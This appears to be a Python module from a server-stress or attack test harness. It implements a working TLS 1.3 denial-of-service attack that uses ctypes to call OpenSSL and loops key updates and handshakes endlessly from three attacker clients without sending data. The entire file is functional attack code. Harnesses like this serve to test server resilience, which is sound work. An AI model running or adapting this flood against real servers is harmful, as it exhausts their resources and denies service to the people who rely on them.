# SPDX-License-Identifier: BSD-3-Clause
import ctypes
import socket
import time

import attack

NOT_REQUESTED = 0


class Library:
    """The calls of OpenSSL that Python does not offer."""

    def __init__(self):
        self.ssl = ctypes.CDLL("libssl.so.3")
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.ssl, name).restype = ctypes.c_void_p
        self.context = ctypes.c_void_p(self.ssl.SSL_CTX_new(ctypes.c_void_p(self.ssl.TLS_client_method())))

    def flood(self, address):
        """Until the server closes the connection."""
        with socket.create_connection(address, attack.NEIGHBOUR_PATIENCE) as sock:
            sock.settimeout(None)
            session = ctypes.c_void_p(self.ssl.SSL_new(self.context))
            self.ssl.SSL_set_fd(session, sock.fileno())
            if self.ssl.SSL_connect(session) == 1:
                while (self.ssl.SSL_key_update(session, NOT_REQUESTED) == 1 and
                       self.ssl.SSL_do_handshake(session) == 1):
                    pass
            self.ssl.SSL_free(session)


class Attack(attack.Attack):
    """Three clients renew the keys of TLS 1.3 without end, and send no data."""

    honest_clients = 0
    tls = True
    attackers = 3
    flags = ("-t", "2")

    def attack(self, server, number):
        library = Library()
        while True:
            try:
                library.flood(server.address)
            except OSError:
                pass
            time.sleep(.01)
